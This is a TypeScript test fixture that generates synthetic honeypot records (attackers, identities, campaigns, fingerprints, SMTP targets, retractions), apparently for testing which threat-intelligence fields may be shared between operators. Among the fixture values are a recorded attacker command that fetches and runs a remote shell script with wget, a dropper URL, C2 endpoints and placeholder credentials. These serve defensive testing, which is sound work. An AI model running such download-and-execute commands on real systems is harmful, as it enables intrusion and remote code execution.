import { createHash } from 'node:crypto'

/** Rows of every type with every column set, each text its own: what must not leave can be told from what may. */

export function hexOf(name: string, bytes: number): string {
  return createHash('sha512')
    .update(name)
    .digest('hex')
    .slice(0, bytes * 2)
}

export function uuidOf(name: string): string {
  return hexOf(name, 16).replace(/^(.{8})(.{4})(.{4})(.{4})(.{12})$/, '$1-$2-$3-$4-$5')
}

/** What every operator sees, so that there is something to be told. */
export const shared = {
  ja3: hexOf('shared ja3', 16),
  simhash: '7d793037a0760186',
  domains: ['acme.com', 'hit-often.com'],
}

/** Hash columns whose values may leave as they are, in bytes. */
export const leavesInBytes: ReadonlySet<string> = new Set([
  'ja3_hashes',
  'hassh_hashes',
  'payload_simhashes',
  'ja3',
  'hash',
  'sha256',
  'hassh',
  'shasum',
])

const first = '2026-06-01T10:00:00.123456Z'
const last = '2026-06-02T11:12:13Z'

export function everyRow(operator: string, net: string): object[] {
  const own = (name: string) => `${operator}-${name}`
  const uuid = (name: string) => uuidOf(own(name))
  const hex = (name: string, bytes: number) => hexOf(own(name), bytes)
  const ip = (n: number) => `${net}.${n}`
  const ipv6 = `2001:db8:${hex('net', 2)}:1a2b:3c4d:5e6f:7a8b:${hex('host', 2)}`
  const leak = `fe80::2225:90ff:fe${hex('leak', 1)}:${hex('leak end', 2)}`
  const span = { first_seen: first, last_seen: last }
  const seenAt = { first_seen_at: first, last_seen_at: last }

  const attacker = (n: number, address: string) => ({
    type: 'attacker',
    uuid: uuid(`attacker ${n}`),
    ip: address,
    identity_id: uuid('identity'),
    ...span,
    event_count: 10,
    service_count: 2,
    decky_count: 3,
    services: [own('service')],
    deckies: [own('sensor-01'), own('sensor-02')],
    traversal_path: `${own('sensor-01')} → ${own('sensor-02')}`,
    is_traversal: true,
    bounty_count: 2,
    credential_count: 1,
    fingerprints: [
      {
        decky: own('sensor-01'),
        attacker_ip: address,
        payload: {
          fingerprint_type: 'ja3',
          ja3: shared.ja3,
          sni: own('sni.example.org'),
          target_ip: ip(250),
        },
      },
      { payload: { fingerprint_type: 'hassh', hash: hex('hassh', 16), ssh_banner: own('banner') } },
      {
        payload: {
          fingerprint_type: 'tls_certificate',
          cert_sha256: hex('bounty certificate', 32),
          subject_cn: own('c2.example'),
          sans: [address],
        },
      },
      {
        payload: {
          fingerprint_type: 'payload',
          sha256: hex('payload', 32),
          size: 4_096,
          via: 'url',
          url: `http://${address}/${own('dropper')}`,
        },
      },
      {
        payload: {
          fingerprint_type: 'payload',
          typed_sha256: hex('typed', 32),
          hash: hex('typed', 32),
          size: 80,
          via: 'redirect',
        },
      },
      { payload: { fingerprint_type: 'c2', endpoint: `${ip(251)}:4444` } },
      { payload: { fingerprint_type: 'credential', username: own('root'), password: own('hunter2') } },
    ],
    commands: [{ command_text: `wget http://${address}/${own('x.sh')}; sh x.sh`, cwd: own('/tmp') }],
    country_code: 'ZZ',
    country_source: own('geo'),
    asn: 64_500,
    as_name: own('EXAMPLE-AS'),
    asn_source: own('as source'),
    ptr_record: own(`host-${address.replaceAll(/[.:]/g, '-')}.isp.example`),
    rotation_count: 1,
    last_rotation_at: last,
    ipv6_leak_count: 1,
    last_ipv6_leak_at: last,
    last_ipv6_link_local: leak,
    last_ipv6_iid_kind: 'eui64-kind',
    last_ipv6_mac_oui: '20:25:90',
    bgp_prefix: `${ip(0)}/24`,
    rpki_status: own('rpki'),
    rpki_source: own('rpki source'),
    address_key: own(`key-${n}`),
  })
  const identity = (name: string, extra: object = {}) => ({
    type: 'identity',
    uuid: uuid(name),
    campaign_id: uuid('campaign'),
    ...seenAt,
    confidence: 0.9,
    observation_count: 3,
    ja3_hashes: [shared.ja3, hex(`${name} ja3`, 16)],
    hassh_hashes: [hex(`${name} hassh`, 16)],
    ja4h_hashes: [`ge11cn20enus_${hex('ja4h', 6)}_${hex('ja4h end', 6)}`],
    ja4_quic_hashes: [`q13d0310h3_${hex('quic', 6)}_${hex('quic end', 6)}`],
    http_versions_seen: [own('HTTP/1.1')],
    tls_cert_sha256: [hex(`${name} certificate`, 32)],
    ipv6_link_local_iids: [{ iid: leak, oui: '20:25:90', kind: 'eui64', first_seen: first }],
    payload_simhashes: [shared.simhash],
    c2_endpoints: [`${ip(252)}:4444`, `${operator}.c2-of-theirs.com:8443`],
    kd_digraph_simhash: hex(`${name} rhythm`, 8),
    merged_into_uuid: null,
    notes: `${own('note')}: seen from ${ip(1)}, ask the SOC`,
    ...extra,
  })
  const campaign = {
    type: 'campaign',
    uuid: uuid('campaign'),
    ...seenAt,
    confidence: 0.5,
    identity_count: 2,
    ja3_hashes: [hex('campaign ja3', 16)],
    hassh_hashes: [hex('campaign hassh', 16)],
    tls_cert_sha256: [hex('campaign certificate', 32)],
    payload_simhashes: [hex('campaign simhash', 8)],
    c2_endpoints: [`${ip(253)}:53`],
    merged_into_uuid: null,
    notes: `${own('operation')} from ${ip(2)}`,
  }
  const at = (name: string) => ({ attacker_uuid: uuid(name) })
  const target = (name: string, domain: string) => ({
    type: 'smtp_target',
    ...at(name),
    domain,
    count: 5,
    ...span,
  })
  const hit = (name: string, domain: string) => ({
    type: 'smtp_target_hit',
    ...at(name),
    domain,
    at: last,
    event_id: own(`event of ${name} at ${domain}`),
  })
  return [
    { type: 'retract', kind: 'domain', domain: `${operator}-withdrawn.com`, uuid: uuid('nothing') },
    attacker(1, ip(1)),
    attacker(2, ip(2)),
    attacker(3, ipv6),
    {
      type: 'fingerprint',
      ...at('attacker 1'),
      port: 443,
      probe_type: 'tcpfp',
      hash: hex('tcpfp', 16),
      at: first,
    },
    { type: 'ipv6_leak', ...at('attacker 1'), addr: leak, observed_at: first },
    {
      type: 'behavior',
      ...at('attacker 1'),
      ip: ip(1),
      os_guess: own('linux'),
      hop_distance: 11,
      tcp_fingerprint: { window: 64_240, of: own('tcp') },
      kex_order_raw: [own('curve25519')],
      ssh_client_banners: [own('SSH-2.0-Go')],
      retransmit_count: 2,
      behavior_class: own('brute_force'),
      beacon_interval_s: 60,
      beacon_jitter_pct: 5,
      tool_guesses: [own('hydra')],
      timing_stats: { of: own('timing') },
      phase_sequence: [own('phase')],
    },
    identity('identity'),
    identity('loser', { merged_into_uuid: uuid('identity') }),
    identity('withdrawn identity'),
    { type: 'retract', kind: 'identity', uuid: uuid('withdrawn identity') },
    campaign,
    { ...campaign, uuid: uuid('merged campaign'), merged_into_uuid: uuid('campaign') },
    target('attacker 1', `mail.acme.com`),
    target('attacker 2', `${operator}.smtp.acme.com`),
    hit('attacker 1', `${operator}.mx.hit-often.com`),
    hit('attacker 3', 'hit-often.com'),
    // One attacker each: below the threshold.
    target('attacker 1', `mail.${operator}-rare.co.uk`),
    hit('attacker 2', `${operator}-rare-hit.de`),
    // Enough attackers, and withdrawn by its operator.
    target('attacker 1', `${operator}-withdrawn.com`),
    target('attacker 2', `${operator}-withdrawn.com`),
    { type: 'retract', kind: 'domain', domain: `${operator}-forgiven.com` },
    { type: 'unretract', kind: 'domain', domain: `${operator}-forgiven.com`, uuid: uuid('nothing') },
  ]
}
